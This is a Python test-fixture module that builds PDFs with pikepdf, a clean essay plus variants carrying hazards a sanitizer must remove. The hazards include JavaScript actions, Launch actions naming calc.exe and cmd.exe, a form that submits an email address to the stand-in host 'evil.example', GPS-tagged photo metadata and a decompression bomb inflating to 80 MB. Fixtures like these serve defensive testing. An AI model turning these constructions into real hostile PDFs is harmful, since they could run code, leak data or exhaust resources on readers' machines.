"""PDFs built with pikepdf for the tests: a clean essay, and the same essay carrying everything a
public site must not serve (script hidden in a compressed object stream, actions, attachments,
an author's name and email, XMP, a photo with GPS EXIF, comments)."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

Tweak = Callable[[pikepdf.Pdf], None]


def gps_jpeg(size: tuple[int, int] = (32, 24)) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x013B] = "Maya Smith"  # Artist
    exif[0x8825] = {1: "N", 2: (33.0, 27.0, 12.5), 3: "W", 4: (84.0, 8.0, 2.0)}
    out = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(out, "JPEG", exif=exif.tobytes(),
                                                 xmp=b"<x:xmpmeta>GPSLatitude 33.45</x:xmpmeta>")
    return out.getvalue()


def _text(pdf: pikepdf.Pdf, font: Any, words: str) -> pikepdf.Stream:
    return pdf.make_stream(f"BT /F1 12 Tf 72 700 Td ({words}) Tj ET".encode("latin-1"))


def essay(*tweaks: Tweak, page_two: str = "Thank you for reading.") -> bytes:
    """Two pages of text, saved with compressed object streams (where script hides from regexes)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for page, words in zip(pdf.pages, ("My essay on ratios", page_two), strict=True):
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = _text(pdf, font, words)
    for tweak in tweaks:
        tweak(pdf)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True,
             deterministic_id=True)
    return out.getvalue()


def with_javascript(pdf: pikepdf.Pdf) -> None:
    js = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('hi')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), js])))


def with_open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("this.print()"))


def with_launch(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("calc.exe")))
    pdf.pages[0].Annots = Array([
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50],
                   A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[50, 0, 100, 50],
                   A=Dictionary(S=Name.URI, URI=String("https://example.org/ratios"),
                                Next=Dictionary(S=Name.JavaScript, JS=String("app.alert(2)")))),
    ])


def with_attachment(pdf: pikepdf.Pdf) -> None:
    secret = pdf.make_stream(b"grades.xlsx contents")
    spec = Dictionary(Type=Name.Filespec, F=String("grades.xlsx"), EF=Dictionary(F=secret))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("grades.xlsx"), spec])))
    pdf.pages[1].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9],
                                            FS=spec, T=String("Maya Smith"))])


def with_author(pdf: pikepdf.Pdf) -> None:
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = ["Maya Smith"]
    pdf.docinfo["/Author"] = "Maya Smith maya@example.com"  # after the XMP, which would overwrite it


def with_photo(pdf: pikepdf.Pdf) -> None:
    photo = pikepdf.Stream(pdf, gps_jpeg())
    photo.Type, photo.Subtype = Name.XObject, Name.Image
    photo.Width, photo.Height, photo.BitsPerComponent = 32, 24, 8
    photo.ColorSpace, photo.Filter = Name.DeviceRGB, Name.DCTDecode
    page = pdf.pages[0]
    page.Resources.XObject = Dictionary(Im1=photo)
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b" q 32 0 0 24 72 600 cm /Im1 Do Q")


def with_form(pdf: pikepdf.Pdf) -> None:
    widget = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 90, 20], FT=Name.Tx, T=String("name"),
        V=String("maya@example.com"), A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("event.rc = true")))))
    pdf.pages[0].Annots = Array([*pdf.pages[0].get("/Annots", []), widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def with_outline(pdf: pikepdf.Pdf) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Start", 0))
    first = pdf.Root.Outlines.First
    first.A = Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))


ALL_HOSTILE: tuple[Tweak, ...] = (with_javascript, with_open_action, with_launch, with_author, with_photo,
                                  with_form, with_outline)


def walk(pdf: pikepdf.Pdf) -> Iterator[Any]:
    """Every dictionary and stream of a parsed PDF, indirect or nested."""
    def direct(values: list[Any]) -> list[Any]:
        return [v for v in values if isinstance(v, Dictionary | Array | pikepdf.Stream) and not v.is_indirect]

    stack: list[Any] = [*pdf.objects, pdf.trailer]
    while stack:
        obj = stack.pop()
        if isinstance(obj, Dictionary | pikepdf.Stream):
            yield obj
            stack += direct([obj.get(k) for k in list(obj.keys())])
        elif isinstance(obj, Array):
            stack += direct(list(obj))


def bomb() -> bytes:
    """A PDF whose one stream inflates from kilobytes to 80 MB."""
    body = zlib.compress(b"\0" * (80 * 1024 * 1024), 9)
    head = (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n")
    stream = b"3 0 obj << /Length " + str(len(body)).encode() + b" /Filter /FlateDecode >>\nstream\n"
    return head + stream + body + b"\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
